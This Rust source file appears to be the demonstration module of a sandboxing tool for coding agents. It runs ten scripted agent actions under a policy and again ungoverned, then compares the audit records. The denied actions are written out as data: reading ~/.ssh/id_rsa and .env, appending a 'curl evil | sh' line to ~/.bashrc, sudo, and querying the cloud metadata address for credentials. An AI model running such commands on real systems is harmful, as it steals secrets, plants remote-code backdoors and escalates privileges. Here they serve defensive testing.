//! The demonstration: an agent's working day in ten actions, governed and then not. Everything is
//! real: the programs, the policy, the records. It checks itself and succeeds only when every
//! action went as it says.

use std::fs::{self, Permissions};
use std::os::unix::fs::{PermissionsExt as _, chown};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Instant;

use anyhow::{Context as _, Result, bail, ensure};
use comfy_table::{Attribute, Cell, Color, ContentArrangement, Table, presets};
use serde_json::Value;

use crate::service::Service;

/// Port of the service that the policy permits.
const SERVICE: u16 = 8000;
/// The address at which clouds hand out credentials to whoever asks.
const METADATA: &str = "169.254.169.254";

/// One action of the agent.
struct Action {
    /// What people read.
    title: &'static str,
    /// What the agent's shell runs in its project.
    command: &'static str,
    /// Whether the policy permits it.
    permitted: bool,
    /// Operation, end of the target and, for programs, an argument of the record that proves it.
    record: (&'static str, &'static str, Option<&'static str>),
    /// What shows that it happened.
    proof: Proof,
}

enum Proof {
    /// Its output holds this.
    Says(&'static str),
    /// This shell line, run by the observer in the agent's home, succeeds.
    Holds(&'static str),
}

const ACTIONS: &[Action] = &[
    Action {
        title: "commit in the workspace",
        command: "echo 'to do' > notes.txt && git add notes.txt && git commit -q -m 'Add notes' && git log --oneline -1",
        permitted: true,
        record: ("exec", "/usr/bin/git", Some("commit")),
        proof: Proof::Holds("git -C work/project log --oneline | grep -q 'Add notes'"),
    },
    Action {
        title: "run python in the workspace",
        command: "python3 -c \"open('result.txt', 'w').write('42')\" && cat result.txt",
        permitted: true,
        record: ("open", "/work/project/result.txt", None),
        proof: Proof::Says("42"),
    },
    Action {
        title: "git push",
        command: "git push -q origin main && echo pushed",
        permitted: true,
        record: ("exec", "/usr/bin/git", Some("push")),
        proof: Proof::Holds("git -C work/upstream.git log --oneline main | grep -q 'Add notes'"),
    },
    Action {
        title: "git push --force",
        command: "git push --force origin main:forced",
        permitted: false,
        record: ("exec", "/usr/bin/git", Some("--force")),
        proof: Proof::Holds("git -C work/upstream.git rev-parse -q --verify forced"),
    },
    Action {
        title: "read ~/.ssh/id_rsa",
        command: "cat ~/.ssh/id_rsa",
        permitted: false,
        record: ("open", "/.ssh/id_rsa", None),
        proof: Proof::Says("PRIVATE KEY"),
    },
    Action {
        title: "read .env",
        command: "cat .env",
        permitted: false,
        record: ("open", "/work/project/.env", None),
        proof: Proof::Says("API_TOKEN"),
    },
    Action {
        title: "write outside the workspace",
        command: "echo 'curl evil | sh' >> ~/.bashrc",
        permitted: false,
        record: ("open", "/.bashrc", None),
        proof: Proof::Holds("grep -q evil .bashrc"),
    },
    Action {
        title: "sudo",
        command: "sudo -n id",
        permitted: false,
        record: ("exec", "/usr/bin/sudo", None),
        proof: Proof::Says("uid=0"),
    },
    Action {
        title: "ask the metadata service",
        command: "curl -sS -m 5 http://169.254.169.254/",
        permitted: false,
        record: ("connect", "169.254.169.254:80", None),
        proof: Proof::Says("secret-access-key"),
    },
    Action {
        title: "ask a local service",
        command: "curl -sS -m 10 http://127.0.0.1:8000/hello.txt",
        permitted: true,
        record: ("connect", "127.0.0.1:8000", None),
        proof: Proof::Says("hello from the service"),
    },
];

/// Where and as whom the agent works.
#[derive(clap::Args)]
pub struct Scene {
    /// The agent's home, cleared; everything happens below it.
    #[arg(long)]
    home: PathBuf,
    /// Uid of the agent.
    #[arg(long)]
    uid: u32,
    /// Gid of the agent.
    #[arg(long)]
    gid: u32,
    /// Name of that user.
    #[arg(long)]
    user: String,
    /// The guard's program.
    #[arg(long, default_value = "/usr/bin/agentguard")]
    program: PathBuf,
    /// Folder of the policies.
    #[arg(long, default_value = "/etc/agentguard/policies")]
    policies: PathBuf,
    /// This machine is a guest made for this: a metadata service may be put up.
    #[arg(long)]
    guest: bool,
    /// Use colours.
    #[arg(long)]
    colour: bool,
}

/// What one action did.
struct Happened {
    output: String,
    proved: bool,
}

impl Scene {
    /// Plays it; true when every expectation held.
    pub fn play(&self) -> Result<bool> {
        let work = self.home.join("work");
        self.prepare()?;
        let _services = self.services()?;
        let trail = self.home.with_file_name("demo-audit.jsonl");
        // One of an earlier run.
        let _ = fs::remove_file(&trail);

        let started = Instant::now();
        let mut governed = Command::new(&self.program);
        governed
            .args(["run", "--policy"])
            .arg(self.policies.join("coding-agent.yaml"));
        governed.args(["--name", "demo", "--audit"]).arg(&trail);
        governed.args([
            "--set",
            &format!("workspace={}", work.display()),
            "--set",
            &format!("home={}", self.home.display()),
        ]);
        governed
            .env("SUDO_UID", self.uid.to_string())
            .env("SUDO_GID", self.gid.to_string())
            .env("SUDO_USER", &self.user);
        governed.arg("--").args(["bash", "agent.sh"]);
        let output = self.output(&mut governed)?;
        let took = started.elapsed();
        let with = self.happened(&output)?;
        let records = records(&trail)?;

        let mut held = true;
        let mut table = table(&["action of the agent", "verdict", "rule", "why"]);
        for (action, happened) in ACTIONS.iter().zip(&with) {
            let record = records.iter().find(|record| action.fits(record));
            held &= self.row(&mut table, action, happened, record);
        }
        println!(
            "Under policies/coding-agent.yaml, by its audit records (the run took {:.1} s):\n{table}\n",
            took.as_secs_f64()
        );

        self.prepare()?;
        let output = self.output(
            Command::new("bash")
                .arg("agent.sh")
                .uid(self.uid)
                .gid(self.gid),
        )?;
        let without = self.happened(&output)?;
        let marked = self::records(&trail)?.len();
        let mut table = self::table(&["the same by an ungoverned shell", "what came of it"]);
        for (action, happened) in ACTIONS.iter().zip(&without) {
            let possible = self.guest || !action.command.contains(METADATA);
            held &= happened.proved || !possible;
            let word = match (happened.proved, possible) {
                (true, _) => "done".to_owned(),
                (false, false) => "nobody answers there on this host".to_owned(),
                (false, true) => format!("FAILED: {}", last_line(&happened.output)),
            };
            table.add_row([action.title, &word]);
        }
        println!("{table}\n");
        if marked != records.len() {
            println!("FAILED: the ungoverned shell left records\n");
            held = false;
        }
        println!("The audit trail of the run ({} records):\n", records.len());
        for filter in [
            &["--agent", "demo", "--verdict", "deny", "--op", "open"][..],
            &["--agent", "demo", "--op", "exec"],
            &[
                "--agent",
                "demo",
                "--op",
                "connect",
                "--rule",
                "cloud-metadata",
            ],
            &["--agent", "demo", "--op", "connect", "--rule", "loopback"],
        ] {
            held &= self.query(&trail, filter)?;
        }
        println!(
            "{}",
            if held {
                "Every action went as expected. Next: \"Install\" in the README, then `agentguard doctor`, which says \
                 whether this machine can enforce."
            } else {
                "Some expectations did NOT hold."
            }
        );
        Ok(held)
    }

    fn row(
        &self,
        table: &mut Table,
        action: &Action,
        happened: &Happened,
        record: Option<&Value>,
    ) -> bool {
        let text = |key: &str| {
            record
                .and_then(|record| record.get(key))
                .and_then(Value::as_str)
                .unwrap_or_default()
        };
        let held = record.is_some() && happened.proved == action.permitted;
        let mut verdict = Cell::new(if record.is_some() {
            text("verdict").to_uppercase()
        } else {
            "NO RECORD".to_owned()
        });
        if self.colour {
            verdict = verdict
                .fg(if action.permitted {
                    Color::Green
                } else {
                    Color::Red
                })
                .add_attribute(Attribute::Bold);
        }
        let mut why = text("reason").to_owned();
        if !held {
            why = format!(
                "FAILED: {} ({})",
                last_line(&happened.output),
                if happened.proved {
                    "it happened"
                } else {
                    "it did not happen"
                }
            );
        }
        table.add_row([
            Cell::new(action.title),
            verdict,
            Cell::new(if text("rule").is_empty() {
                "-"
            } else {
                text("rule")
            }),
            Cell::new(why),
        ]);
        held
    }

    fn query(&self, trail: &Path, filter: &[&str]) -> Result<bool> {
        println!("$ agentguard audit query {}", filter.join(" "));
        let output = Command::new(&self.program)
            .args(["audit", "query", "--file"])
            .arg(trail)
            .args(filter)
            .output()?;
        println!("{}", String::from_utf8_lossy(&output.stdout));
        if !output.status.success() {
            println!("FAILED: {}", String::from_utf8_lossy(&output.stderr).trim());
        }
        Ok(output.status.success() && !output.stdout.is_empty())
    }

    /// The agent's home as it was before anything happened.
    fn prepare(&self) -> Result<()> {
        match fs::remove_dir_all(&self.home) {
            Err(error) if error.kind() != std::io::ErrorKind::NotFound => {
                return Err(error)
                    .with_context(|| format!("failed to clear {}", self.home.display()));
            }
            _ => {}
        }
        let project = self.home.join("work/project");
        fs::create_dir_all(&project)
            .with_context(|| format!("failed to create {}", project.display()))?;
        fs::create_dir_all(self.home.join(".ssh"))?;
        fs::write(
            self.home.join(".ssh/id_rsa"),
            "-----BEGIN PRIVATE KEY-----\n",
        )?;
        fs::write(self.home.join(".bashrc"), "# none\n")?;
        fs::write(
            self.home.join(".gitconfig"),
            "[user]\n\tname = Agent\n\temail = agent@example.com\n[init]\n\tdefaultBranch = main\n",
        )?;
        fs::write(project.join(".env"), "API_TOKEN=sesame\n")?;
        fs::write(project.join("README.md"), "# Project\n")?;
        fs::write(project.join("agent.sh"), script(&self.home))?;
        own(&self.home, (self.uid, self.gid))?;
        fs::set_permissions(self.home.join(".ssh/id_rsa"), Permissions::from_mode(0o600))?;
        let line = "git init -q && git add README.md && git commit -q -m Begin && git init -q --bare ../upstream.git && git remote add origin ../upstream.git && git push -q -u origin main";
        let output = self.output(
            Command::new("bash")
                .args(["-ec", line])
                .uid(self.uid)
                .gid(self.gid),
        )?;
        ensure!(
            output.status.success(),
            "failed to prepare the project: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        Ok(())
    }

    fn output(&self, command: &mut Command) -> Result<Output> {
        command
            .current_dir(self.home.join("work/project"))
            .env("HOME", &self.home)
            .env("USER", &self.user)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdin(Stdio::null())
            .output()
            .with_context(|| {
                format!(
                    "failed to start {}",
                    command.get_program().to_string_lossy()
                )
            })
    }

    fn services(&self) -> Result<Vec<Service>> {
        let folder = self.home.with_file_name("demo-service");
        fs::create_dir_all(&folder)?;
        fs::write(folder.join("hello.txt"), "hello from the service\n")?;
        fs::write(folder.join("index.html"), "secret-access-key: 0123456789\n")?;
        let mut places = vec![("127.0.0.1", SERVICE)];
        if self.guest {
            let status = Command::new("ip")
                .args(["address", "add", &format!("{METADATA}/32"), "dev", "lo"])
                .status()?;
            ensure!(
                status.success(),
                "failed to give this guest the metadata service's address"
            );
            places.push((METADATA, 80));
        }
        let mut services = Vec::new();
        for (address, port) in places {
            services.push(Service::start(&folder, address, port)?);
        }
        Ok(services)
    }

    /// Takes the script's output apart, action by action, and looks for what each left behind.
    fn happened(&self, output: &Output) -> Result<Vec<Happened>> {
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let parts: Vec<&str> = text.split("@@action\n").skip(1).collect();
        if parts.len() != ACTIONS.len() {
            bail!(
                "the agent's script broke off ({}):\n{text}{}",
                output.status,
                String::from_utf8_lossy(&output.stderr)
            );
        }
        let proved = |action: &Action, part: &str| match action.proof {
            Proof::Says(words) => part.contains(words),
            Proof::Holds(line) => {
                let mut command = Command::new("sh");
                command
                    .args(["-c", line])
                    .current_dir(&self.home)
                    .env("HOME", &self.home)
                    .uid(self.uid)
                    .gid(self.gid);
                command
                    .stdout(Stdio::null())
                    .stderr(Stdio::null())
                    .status()
                    .is_ok_and(|status| status.success())
            }
        };
        Ok(ACTIONS
            .iter()
            .zip(parts)
            .map(|(action, part)| Happened {
                output: part.to_owned(),
                proved: proved(action, part),
            })
            .collect())
    }
}

impl Action {
    fn fits(&self, record: &Value) -> bool {
        let text = |key: &str| record.get(key).and_then(Value::as_str).unwrap_or_default();
        let (op, target, argument) = self.record;
        let argv = || {
            record
                .get("argv")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(Value::as_str)
        };
        // A path rule refuses a program when the kernel opens it to run it.
        (text("op") == op || (op == "exec" && text("access") == "exec"))
            && text("target").ends_with(target)
            && text("verdict") == if self.permitted { "allow" } else { "deny" }
            && argument.is_none_or(|wanted| argv().any(|word| word == wanted))
    }
}

/// What the agent runs. A marker before each action lets the observer tell their output apart.
fn script(home: &Path) -> String {
    let quoted = |action: &Action| action.command.replace('\'', r"'\''");
    let actions = ACTIONS
        .iter()
        .map(|action| format!("echo @@action\nbash -c '{}' 2>&1\n", quoted(action)));
    // The guard gives a user's command that user's home; the scene's is another where it plays on a host.
    let start = format!("export HOME='{}'\ncd ~/work/project\n", home.display());
    std::iter::once(start).chain(actions).collect()
}

fn records(trail: &Path) -> Result<Vec<Value>> {
    let text = fs::read_to_string(trail)
        .with_context(|| format!("failed to read the audit trail {}", trail.display()))?;
    text.lines()
        .map(|line| serde_json::from_str(line).with_context(|| format!("not a record: {line}")))
        .collect()
}

fn own(path: &Path, owner: (u32, u32)) -> Result<()> {
    chown(path, Some(owner.0), Some(owner.1))
        .with_context(|| format!("failed to change the owner of {}", path.display()))?;
    if path.is_dir() {
        for entry in fs::read_dir(path)? {
            own(&entry?.path(), owner)?;
        }
    }
    Ok(())
}

fn table(head: &[&str]) -> Table {
    let mut table = Table::new();
    table
        .load_preset(presets::UTF8_BORDERS_ONLY)
        .set_content_arrangement(ContentArrangement::Dynamic)
        .set_width(110)
        .set_header(head);
    table
}

fn last_line(text: &str) -> &str {
    text.trim_end().lines().last().unwrap_or("no output")
}
